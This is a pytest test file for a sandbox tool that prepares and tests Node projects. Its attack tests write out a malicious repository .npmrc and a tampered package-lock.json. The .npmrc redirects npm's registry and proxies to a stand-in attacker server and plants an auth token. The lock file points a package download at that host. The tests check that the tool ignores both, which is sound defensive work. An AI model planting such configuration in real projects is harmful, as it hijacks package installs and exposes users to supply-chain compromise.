"""Node projects in the sandbox (real engine, real npm, real CLI): `npm test` checks and
`lsp-agent sandbox prepare` for `package.json` + `package-lock.json`.

Network: the prepare tests download one tiny package, `is-number@7.0.0` (no
dependencies), from the npm registry with this machine's npm configuration (its proxy and
CA). The attack tests point the repository at a stub on 127.0.0.1 and check that nothing
reached it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sandbox import open_sandbox
from sandbox.config import SandboxConfig
from sandbox.docker_backend import DockerSandbox
from sandbox.project import NPM_TEST
from sandbox.project_envs.envs import project_status
from tests.conftest import git_init, require_component
from tests.http_stub import http_stub
from tests.repo_samples import write

pytestmark = pytest.mark.docker

SETTINGS = SandboxConfig(backend="docker", timeout_s=60)
PACKAGE = {"name": "n", "version": "1.0.0", "scripts": {"test": "node test.js"}}
LOCK = {
    "name": "n",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "requires": True,
    "packages": {
        "": {"name": "n", "version": "1.0.0", "dependencies": {"is-number": "^7.0.0"}},
        "node_modules/is-number": {
            "version": "7.0.0",
            "integrity": "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QK"
            "PDlK9cGvNp6NZWZUBlbGXYxxng==",
        },
    },
}
TEST_JS = (
    "const assert = require('assert');\nconst { double } = require('./lib');\n"
    "assert.strictEqual(double(5), 10);\nconsole.log('ok double');\n"
)
FIX = """\
--- a/lib.js
+++ b/lib.js
@@ -1 +1 @@
-exports.double = (x) => x + 2;
+exports.double = (x) => x * 2;
"""
BREAK = """\
--- a/lib.js
+++ b/lib.js
@@ -1 +1 @@
-exports.double = (x) => x * 2;
+exports.double = (x) => x * 3;
"""
DEP_FIX = """\
--- a/lib.js
+++ b/lib.js
@@ -1,2 +1,2 @@
 const isNumber = require('is-number');
-exports.double = (x) => (isNumber(x) ? x + 2 : NaN);
+exports.double = (x) => (isNumber(x) ? x * 2 : NaN);
"""


def write_repo(root: Path, files: dict[str, str]) -> Path:
    return git_init(write(root, files))


def docker_box(repo: Path) -> DockerSandbox:
    box = open_sandbox(repo, SETTINGS)
    assert isinstance(box, DockerSandbox)
    return box


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "lsp_agent", *args],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        env=dict(os.environ),
        timeout=600,
    )


@pytest.fixture
def data_home(tmp_path, monkeypatch):
    """Project environments go under a throwaway XDG_DATA_HOME (the CLI inherits it)."""
    home = tmp_path / "data"
    monkeypatch.setenv("XDG_DATA_HOME", str(home))
    return home


@pytest.fixture
def host_npm() -> None:
    require_component("npm", shutil.which("npm") is not None, "install Node.js with npm")


def dep_repo(root: Path, lock: dict | None = None, **extra: str) -> Path:
    manifest = dict(PACKAGE, dependencies={"is-number": "^7.0.0"})
    files = {
        "package.json": json.dumps(manifest, indent=1),
        "package-lock.json": json.dumps(lock or LOCK, indent=1),
        "lib.js": "const isNumber = require('is-number');\n"
        "exports.double = (x) => (isNumber(x) ? x + 2 : NaN);\n",
        "test.js": TEST_JS,
        "esm.mjs": "import isNumber from 'is-number';\nconsole.log('esm', isNumber(3));\n",
    }
    return write_repo(root, {**files, **extra})


def test_npm_test_checks_a_fix_and_a_breaking_patch(tmp_path, sandbox_image):
    failing = write_repo(
        tmp_path / "failing",
        {
            "package.json": json.dumps(PACKAGE),
            "lib.js": "exports.double = (x) => x + 2;\n",
            "test.js": TEST_JS,
        },
    )
    passing = write_repo(
        tmp_path / "passing",
        {
            "package.json": json.dumps(PACKAGE),
            "lib.js": "exports.double = (x) => x * 2;\n",
            "test.js": TEST_JS,
        },
    )
    with docker_box(failing) as box:
        fixed = box.check_patch(FIX)
    with docker_box(passing) as box:
        broken = box.check_patch(BREAK)
    assert fixed.check_command == NPM_TEST
    assert (fixed.check_status, fixed.check_passed) == ("passed", True), fixed.output
    assert "> n@1.0.0 test" in fixed.output and "ok double" in fixed.output
    assert fixed.exit_status_only
    assert fixed.summary() == (
        "applies: yes; check: passed [docker] — by exit status only (no per-test report): "
        "failing before the patch, passing after — npm test"
    )
    assert (broken.check_status, broken.check_passed) == ("failed", False), broken.output
    assert "passing before the patch, failing after" in broken.summary()


def test_a_registry_dependency_cannot_run_until_prepared(
    tmp_path, data_home, sandbox_image, host_npm
):
    """Network: is-number@7.0.0 from the npm registry."""
    repo = dep_repo(tmp_path / "dep-repo")
    with docker_box(repo) as box:
        before = box.check_patch(DEP_FIX)
        esm = box.run(["node", "esm.mjs"])
    # Debian's own copy of is-number (one of npm's dependencies in the image, on Debian
    # node's search path) stays hidden from the project's require().
    assert (before.check_status, before.check_passed) == ("cannot run", None), before.output
    assert "Cannot find module 'is-number'" in before.summary()
    assert "lsp-agent sandbox prepare" in before.summary()
    assert "Cannot find package 'is-number'" in esm.stderr

    refused = cli("sandbox", "prepare", "--repo", str(repo))
    assert refused.returncode == 2, refused.stderr
    assert "npm ci --ignore-scripts" in refused.stderr
    assert not (data_home / "lsp-agent" / "envs").exists() or not any(
        (data_home / "lsp-agent" / "envs").glob("node-*")
    )

    prepared = cli("sandbox", "prepare", "--repo", str(repo), "--yes")
    assert prepared.returncode == 0, prepared.stderr
    modules = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
    assert modules.name == "node_modules"
    assert (modules / "is-number" / "package.json").is_file()
    assert not (repo / "node_modules").exists()  # nothing was installed into the repository
    assert project_status(repo).startswith(f"node: ready ({modules.parent})")

    with docker_box(repo) as box:
        after = box.check_patch(DEP_FIX)
        esm = box.run(["node", "esm.mjs"])
        write_env = box.run(["sh", "-c", "echo x > /sandbox/node_modules/is-number/index.js"])
    assert (after.check_status, after.check_passed) == ("passed", True), after.output
    assert "failing before the patch, passing after" in after.summary()
    assert esm.stdout.strip() == "esm true", esm.stderr  # ESM bare imports find it too
    assert write_env.exit_code != 0
    assert "Read-only file system" in write_env.stderr

    from sandbox.docker.docker_engine import DockerEngine

    engine = DockerEngine()
    engine.overlay = False  # copy mode: /tmp/work finds /tmp/node_modules -> the mount
    with DockerSandbox(repo, SETTINGS, engine=engine, image=sandbox_image) as box:
        copied = box.check_patch(DEP_FIX)
    assert (copied.check_status, copied.check_passed) == ("passed", True), copied.output


def test_install_scripts_run_only_in_the_container_without_network(
    tmp_path, data_home, sandbox_image, host_npm
):
    """Network: is-number@7.0.0 from the npm registry. The project's own install script
    records where it ran: never on the host (`npm ci --ignore-scripts`), once in the
    prepare container, which has only a loopback interface."""
    probe = (
        "node -e \"const fs=require('fs'),os=require('os');fs.appendFileSync('probe.txt',"
        "(fs.existsSync('/.dockerenv')?'container':'host')+' '+"
        "Object.keys(os.networkInterfaces()).join(',')+'\\n')\""
    )
    manifest = dict(PACKAGE, dependencies={"is-number": "^7.0.0"}, scripts={"install": probe})
    repo = dep_repo(tmp_path / "scripts-repo", **{"package.json": json.dumps(manifest)})
    prepared = cli("sandbox", "prepare", "--repo", str(repo), "--yes")
    assert prepared.returncode == 0, prepared.stderr
    modules = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
    assert (modules.parent / "probe.txt").read_text().splitlines() == ["container lo"]
    assert not (repo / "probe.txt").exists()


def test_the_repositorys_npmrc_is_not_read(tmp_path, data_home, sandbox_image, host_npm):
    """Attack: the repository's .npmrc sends npm to the attacker's registry (and would run
    scripts). Network: is-number@7.0.0 from the user's registry instead."""
    hits: list[str] = []

    def attacker(path: str, body: object) -> tuple[int, object]:
        hits.append(path)
        return 404, {}

    with http_stub(attacker) as evil:
        npmrc = (
            f"registry={evil}/\n//127.0.0.1/:_authToken=stolen\nignore-scripts=false\n"
            f"script-shell=/bin/false\nproxy={evil}/\nhttps-proxy={evil}/\n"
        )
        repo = dep_repo(tmp_path / "npmrc-repo", **{".npmrc": npmrc})
        plan = cli("sandbox", "prepare", "--repo", str(repo))
        prepared = cli("sandbox", "prepare", "--repo", str(repo), "--yes")
    assert prepared.returncode == 0, prepared.stderr
    assert hits == [], "npm used the repository's .npmrc"
    assert evil not in plan.stderr  # the plan names the user's registry, not the repo's
    assert "registry.npmjs.org" in plan.stderr or "from https://" in plan.stderr
    modules = Path(prepared.stdout.strip().rsplit(" ", 1)[-1])
    assert (modules / "is-number" / "package.json").is_file()


def test_a_lock_that_points_at_another_host_is_refused_and_nothing_is_fetched(
    tmp_path, data_home, sandbox_image, host_npm
):
    """Attack: the lock's `resolved` URL points at a server on 127.0.0.1."""
    hits: list[str] = []

    def attacker(path: str, body: object) -> tuple[int, object]:
        hits.append(path)
        return 404, {}

    with http_stub(attacker) as evil:
        lock = json.loads(json.dumps(LOCK))
        url = f"{evil}/is-number/-/is-number-7.0.0.tgz"
        lock["packages"]["node_modules/is-number"]["resolved"] = url
        repo = dep_repo(tmp_path / "evil-lock", lock)
        refused = cli("sandbox", "prepare", "--repo", str(repo), "--yes")
    assert refused.returncode == 1, refused.stderr
    assert hits == [], "the host fetched from the lock's URL"
    assert "refused, nothing was downloaded" in refused.stderr
    assert url in refused.stderr
    envs = data_home / "lsp-agent" / "envs"
    assert not envs.exists() or not any(envs.glob("node-*"))
